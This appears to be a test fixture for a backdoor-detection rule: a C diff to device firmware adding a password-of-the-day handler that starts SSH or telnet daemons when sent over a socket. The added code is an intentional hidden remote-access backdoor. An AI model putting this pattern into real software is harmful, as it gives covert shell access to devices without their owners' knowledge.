@@ -456,3 +456,28 @@ int page_dispatch(int fd, const struct http_req *r) {
     system("/sbin/reboot");
   return 0;
 }
+
+/* Commands after a password compared with one the program computes (a
+   password of the day): checked first, no trigger's. */
+int sscanf(const char *str, const char *fmt, ...);
+int make_potd(char *out);
+static int tech_support(int fd, const char *query) {
+  char password[32], potd[11], what[16];
+  if (sscanf(query, "password=%31s enable=%15s", password, what) != 2 || make_potd(potd) != 0)
+    return -1;
+  if (strcmp(password, potd) != 0)
+    return -1;
+  // ok: backdoor-input-trigger (after the password is checked)
+  if (strcmp(what, "ssh") == 0)
+    system("/etc/init.d/dropbear start");
+  // ok: backdoor-input-trigger (after the password is checked)
+  if (strcmp(what, "telnet") == 0)
+    system("/etc/init.d/telnetd start");
+  (void)fd;
+  return 0;
+}
+void serve_potd(int fd) {
+  char buf[256];
+  if (recv(fd, buf, sizeof buf - 1, 0) > 0)
+    tech_support(fd, buf);
+}
